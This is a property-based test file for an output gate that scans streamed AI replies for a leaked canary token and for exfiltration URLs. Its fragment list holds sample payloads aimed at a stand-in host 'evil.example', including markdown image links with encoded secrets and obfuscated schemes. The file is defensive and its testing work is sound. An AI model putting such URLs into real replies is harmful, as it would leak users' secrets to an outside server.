import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkOutput } from '../../src/output/index.js';
import { type GateOptions, OutputGate } from '../../src/stream/index.js';
import type { ScanResult } from '../../src/types.js';

const canary = 'pbc-7k2m9q4x8v1c6z3n5t0w';
const options: GateOptions = {
  canaries: [canary],
  trustedDomains: ['docs.example.org'],
};

function through(pieces: readonly string[], how: GateOptions = options) {
  const gate = new OutputGate(how);
  let shown = '';
  for (const piece of pieces) shown += gate.push(piece);
  const before = shown;
  const { text, result } = gate.end();
  return { shown: before + text, before, result };
}

function cut(text: string, places: readonly number[]): string[] {
  const sorted = [...new Set(places.map((place) => place % (text.length + 1)))].toSorted(
    (a, b) => a - b,
  );
  const pieces: string[] = [];
  let from = 0;
  for (const place of sorted) {
    pieces.push(text.slice(from, place));
    from = place;
  }
  pieces.push(text.slice(from));
  return pieces;
}

/** Texts of the kind in which findings begin, end and fail to come about. */
const fragments = fc.constantFrom(
  'The answer is here. ',
  'if a <b and c> d\n',
  '![chart](',
  '[more](',
  'https://evil.example/?d=c2VjcmV0IHBhc3N3b3JkIGlz',
  'https://evil.example/p.png?data=hunter2pass',
  'https://docs.example.org/?data=hunter2pass',
  'www.example.com/?data=hunter2pass1',
  'HTTPS://EVIL.example/c2VjcmV0IHBhc3N3b3JkIGlz.png',
  ')',
  ' ',
  '\n\n',
  '"',
  "'",
  '<',
  '>',
  '<img src="',
  "<a href='",
  '<p style="color: red; background: url(',
  '[r]: ',
  '![x][r]',
  '&#104;ttps://evil.example/?d=secretvalue1',
  'h',
  'ht',
  'tps:',
  '//evil.example/?token=a1b2c3d4e5f6a7b8',
  ']',
  '](',
  '\\',
  canary.slice(0, 9),
  canary.slice(9),
  canary,
  [...canary].join(' '),
  '\u{1f600}',
  '\ud83d',
);
const replies = fc.array(fragments, { maxLength: 14 }).map((parts) => parts.join(''));
const cuts = fc.array(fc.nat(400), { maxLength: 40 });

function judged(result: ScanResult) {
  return { verdict: result.verdict, score: result.score, found: result.detections };
}

describe('a gate for replies', () => {
  it('gives the same verdict however a reply is cut into pieces', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        const whole = through([reply]);
        expect(judged(through(cut(reply, places)).result)).toEqual(judged(whole.result));
        expect(judged(through([...reply].map(String)).result)).toEqual(judged(whole.result));
      }),
    );
  });

  it('shows a benign reply as it is and only the beginning of any other', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        const { shown, result } = through(cut(reply, places));
        if (result.verdict === 'benign') expect(shown).toBe(reply);
        else expect(reply.startsWith(shown)).toBe(true);
      }),
    );
  });

  it('shows nothing of a canary or of a URL that is found', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        const { shown, result } = through(cut(reply, places));
        for (const { title, span } of result.detections) {
          if (!title.includes('pieces')) expect(shown.length).toBeLessThanOrEqual(span.start);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('judges a reply as the output checks judge the whole of it', () => {
    fc.assert(
      fc.property(replies, cuts, (reply, places) => {
        expect(through(cut(reply, places)).result.detections).toEqual(checkOutput(reply, options));
      }),
    );
  });
});
